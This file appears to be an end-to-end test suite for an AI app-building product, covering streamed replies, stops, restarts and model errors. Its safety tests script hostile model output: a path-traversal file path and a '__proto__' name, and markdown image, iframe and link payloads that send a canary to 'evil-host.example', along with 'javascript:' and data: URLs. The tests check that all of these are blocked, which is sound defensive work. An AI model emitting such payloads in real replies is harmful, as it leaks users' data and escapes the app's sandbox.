import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, it } from 'vitest'
import { type ChatMessage, textOf } from '#contract/chat/chat'
import { openVisitor } from './browser.ts'
import { heading, openHostileWorld } from './hostile-world.ts'
import { openPanel, preview, repliesOn, replyFinished, sendInChat } from './person.ts'
import { action, addFile, headed, NOTES, NOTES_APP } from './scripted-product.ts'

const world = openHostileWorld()

/** Her app of one page and some notes, whose editor stands open in her tab, for what needs no app of its own. */
let appId: string
/** What that page says by now. */
let shown = 'Before'
beforeAll(async () => {
  appId = await world.ada.makeApp({ text: NOTES + addFile('pages/Home.jsx', headed(shown)) })
  await world.openEditor(appId)
})

const wordsOf = (message: ChatMessage | undefined) => message && textOf(message)

/** Sends a message and goes on at once. */
async function startSaying(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message').fill(text)
  await page.keyboard.press('Enter')
}

describe('a reply that streams', () => {
  it('ends at once when stopped: the app stays as it last was complete', async () => {
    const { ada, tab } = world
    const { latestVersionId } = await ada.app(appId)
    await heading(tab, shown).waitFor()
    await world.product.script({ text: `${addFile('pages/Home.jsx', headed('After'))}And then`, fault: 'hang' })
    await startSaying(tab, 'Change the heading')
    await heading(tab, 'After').waitFor()
    await tab.getByRole('button', { name: 'Stop' }).click()
    await replyFinished(tab)
    await heading(tab, shown).waitFor()
    expect((await ada.app(appId)).latestVersionId).toBe(latestVersionId)
    expect((await ada.messages(appId)).at(-1)?.metadata).toMatchObject({ status: 'stopped', versionId: null })
    await expect.poll(async () => (await world.product.seen())[0]?.isAborted).toBe(true)
    await tab.reload()
    await heading(tab, shown).waitFor()
    await tab.getByText(/^Stopped/).waitFor()
  })

  it('goes on while its tab is closed, and is found whole and once; S04: it is the only one where two tabs send at once', async () => {
    const { ada, product, tab } = world
    const count = await repliesOn(tab).count()
    const before = await ada.messages(appId)
    const waves = `${Array.from({ length: 40 }, (_, at) => `wave${at}`).join(' ')} ashore.`
    await product.script({ text: waves, heldBefore: ['wave4 '] })
    const closing = await ada.openEditor(appId, { withoutApp: true })
    await startSaying(closing, 'Count the waves')
    await repliesOn(closing).getByText('wave3').waitFor()
    await closing.close()
    await product.release()
    const later = await ada.openEditor(appId, { withoutApp: true })
    await repliesOn(later).getByText('ashore.').waitFor()
    await replyFinished(later)
    await expect.poll(() => repliesOn(later).count()).toBe(count + 1)
    await repliesOn(later).getByText(waves).waitFor()
    const counted = (await ada.messages(appId)).slice(before.length)
    expect(counted.map(({ role }) => role)).toEqual(['user', 'assistant'])
    expect(wordsOf(counted[1])).toBe(waves)
    expect(await product.seen()).toHaveLength(1)

    // The other message waits its turn, and both tabs show the same conversation.
    const text = 'First this, then that, and done at last.'
    await product.script({ text, heldBefore: ['then that'] }, { text })
    const tabs = [later, tab]
    for (const [at, each] of tabs.entries()) await each.getByLabel('Message').fill(`Wish ${at}`)
    await Promise.all(tabs.map((each) => each.getByLabel('Message').press('Enter')))
    for (const each of tabs) await repliesOn(each).getByText('First this').waitFor()
    await product.release()
    for (const each of tabs)
      await repliesOn(each)
        .nth(count + 2)
        .getByText('done at last.')
        .waitFor()
    for (const each of tabs) await replyFinished(each)
    const messages = (await ada.messages(appId)).slice(before.length)
    expect(messages.map(({ role }) => role)).toEqual(['user', 'assistant', 'user', 'assistant', 'user', 'assistant'])
    const said = [messages[0], messages[2], messages[4]].map(wordsOf)
    expect([said[0], ...said.slice(1).toSorted()]).toEqual(['Count the waves', 'Wish 0', 'Wish 1'])
    const saidBefore = before.filter(({ role }) => role === 'user').map(wordsOf)
    for (const each of tabs) {
      const shownWords = () => each.getByRole('article', { name: 'You' }).locator('p').allInnerTexts()
      await expect.poll(shownWords).toEqual([...saidBefore, ...said])
      await expect.poll(() => repliesOn(each).count()).toBe(count + 3)
      await expect.poll(() => each.getByLabel('Message').inputValue()).toBe('')
    }
    await later.close()
  })
})

describe('a model that misbehaves', () => {
  it('says nothing: the person is told, and can go on', async () => {
    const { tab } = world
    await world.product.script({ text: '' })
    await sendInChat(tab, 'Anything?')
    await repliesOn(tab).last().getByRole('alert').getByText('An error occurred while processing your request').waitFor()
    await world.product.script({ text: addFile('pages/Home.jsx', headed('After')) })
    await sendInChat(tab, 'Again')
    await heading(tab, 'After').waitFor()
    shown = 'After'
  })

  it('refuses with 429 again and again: the person is told, and nothing changes', async () => {
    const { ada, tab } = world
    const { latestVersionId } = await ada.app(appId)
    await world.product.script({ status: 429, headers: { 'retry-after-ms': '20' } })
    await sendInChat(tab, 'Change it')
    await repliesOn(tab).last().getByRole('alert').getByText('Rate limit exceeded. Please try again later.').waitFor()
    expect((await ada.app(appId)).latestVersionId).toBe(latestVersionId)
    await heading(tab, shown).waitFor()
  })

  it('writes </action> inside code and a path out of the app: the one is kept, the other refused with its reason', async () => {
    const { ada, tab } = world
    const quoting = `export default function Page() {\n  return <h1>{'Ends with </action> here'}</h1>\n}`
    const text = [
      addFile('../../worker/index.ts', 'export default {}'),
      addFile('__proto__', 'polluted'),
      addFile('pages/Home.jsx', quoting),
      action('paint_walls', 'pages/Wall.jsx', headed('Wall')),
      'Done.',
    ].join('\n')
    await world.product.script({ text }, { text: 'I leave it at that.' })
    await sendInChat(tab, 'Make a page')
    await heading(tab, 'Ends with </action> here').waitFor()
    const reply = repliesOn(tab).last()
    await reply.getByText('The path leaves the app.').waitFor()
    await reply.getByText('"__proto__"').first().waitFor()
    await reply.getByText('Done.', { exact: true }).waitFor()
    const { latestVersionId } = await ada.app(appId)
    const { files } = await ada.call<{ files: Record<string, string> }>(`/api/apps/${appId}/versions/${latestVersionId}`)
    expect(Object.keys(files).sort()).toEqual(['entities/Note.json', 'pages/Home.jsx'])
  })
})

describe('what a reply may not do by itself', () => {
  it('R05: rows are lost only when the builder presses Confirm', async () => {
    const { ada, tab } = world
    await ada.call(`/live_api/apps/${appId}/entities/Note`, { json: { text: 'Mine' } })
    const drop = `${action('delete_file', 'entities/Note.json', '')}${addFile('pages/Home.jsx', headed('No notes'))}`
    await world.product.script({ text: drop })
    await sendInChat(tab, 'Remove the notes')
    const card = tab.getByRole('region', { name: 'Needs your confirmation' })
    await card.getByText('2 notes are lost (1 of them a sample record).').waitFor()
    const before = await ada.app(appId)
    if (process.env.SCREENSHOTS) {
      await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-wide.png` })
      await tab.setViewportSize({ width: 390, height: 844 })
      await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-phone.png` })
      await tab.setViewportSize({ width: 1440, height: 900 })
      await tab.emulateMedia({ colorScheme: 'dark' })
      await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-dark.png` })
    }
    await card.getByRole('button', { name: 'Dismiss' }).click()
    await tab.getByText('You dismissed this. Nothing was changed.').waitFor()
    expect((await ada.app(appId)).latestVersionId).toBe(before.latestVersionId)
    await sendInChat(tab, 'Remove the notes, really')
    await card.getByRole('button', { name: 'Confirm' }).click()
    await tab.getByText('You confirmed this.').waitFor()
    expect((await ada.app(appId)).latestVersionId).not.toBe(before.latestVersionId)
    await heading(tab, 'No notes').waitFor()
  })

  it('R03: nothing in its words leaves for another host without a click that shows where to', async () => {
    const { tab } = world
    const asked: string[] = []
    tab.on('request', (request) => asked.push(request.url()))
    const leak = 'https://evil-host.example/?d=CNRY'
    const text = `![a](${leak}) ![b][r] [Reset your password](${leak}) <img src="${leak}"> <iframe src="${leak}"></iframe> <${leak}>\n\n[x](javascript:alert(1)) [y](data:text/html,z)\n\n[r]: ${leak}\n\nThe end.`
    await world.product.script({ text })
    await sendInChat(tab, 'Summarise the rows')
    const reply = repliesOn(tab).last()
    await reply.getByText('The end.').waitFor()
    await expect.poll(() => reply.locator('img, iframe, link, script, video, object').count()).toBe(0)
    for (const link of await reply.getByRole('link').all()) {
      await expect.poll(() => link.getAttribute('href')).toMatch(/^https:/)
      await expect.poll(() => link.textContent()).toContain('evil-host.example')
      await expect.poll(() => link.getAttribute('rel')).toContain('noopener')
    }
    expect(asked.filter((url) => url.includes('evil-host'))).toEqual([])
  })
})

describe('a restart of the server', () => {
  it('cuts a reply off where it was; it can go on, and everything else is found again', async () => {
    const { ada } = world
    const appId = await ada.makeApp({ text: NOTES_APP })
    const { url } = await ada.publish(appId)
    const { latestVersionId } = await ada.app(appId)
    const tab = await world.openEditor(appId)
    await preview(tab).getByText('Low tide at noon').waitFor()
    const unfinished = '<action type="add_file" file="pages/Second.jsx" title="Write pages/Second.jsx" end="CUT">\nexport default'
    await world.product.script({
      text: `One first.\n${addFile('pages/First.jsx', headed('First'))}${unfinished}`,
      fault: 'hang',
    })
    await startSaying(tab, 'Add two pages')
    await repliesOn(tab).last().getByText('Write pages/Second.jsx').waitFor()
    expect((await ada.messages(appId)).at(-1)?.metadata.status).toBe('streaming')

    await world.product.script({ text: addFile('pages/Second.jsx', headed('Second')) })
    await world.product.restart()
    const goOn = tab.getByRole('button', { name: /keep going/i })
    await goOn.waitFor()
    const kept = (await ada.messages(appId)).at(-1)
    expect(kept?.metadata).toMatchObject({ status: 'truncated', versionId: null })
    expect(wordsOf(kept)).toMatch(/^One first\.\n[\s\S]*export default$/)
    expect((await ada.app(appId)).latestVersionId).toBe(latestVersionId)

    await goOn.click()
    await repliesOn(tab).nth(2).waitFor()
    await replyFinished(tab)
    const { latestVersionId: newest } = await ada.app(appId)
    const { files } = await ada.call<{ files: Record<string, string> }>(`/api/apps/${appId}/versions/${newest}`)
    expect(Object.keys(files)).toEqual(expect.arrayContaining(['pages/Home.jsx', 'pages/First.jsx', 'pages/Second.jsx']))

    const { versions } = await ada.call<{ versions: unknown[] }>(`/api/apps/${appId}/versions`)
    expect(versions).toHaveLength(2)
    expect(await ada.call(`/api/apps/${appId}/entities/Note`)).toMatchObject([{ text: 'Low tide at noon' }])
    const vera = await openVisitor(world.browser)
    await vera.page.goto(url)
    await vera.page.getByText('Low tide at noon').waitFor()
    await vera.context.close()
    await openPanel(tab, 'All apps')
    await tab
      .getByRole('button', { name: /^More for Shore/ })
      .first()
      .waitFor()
  })
})
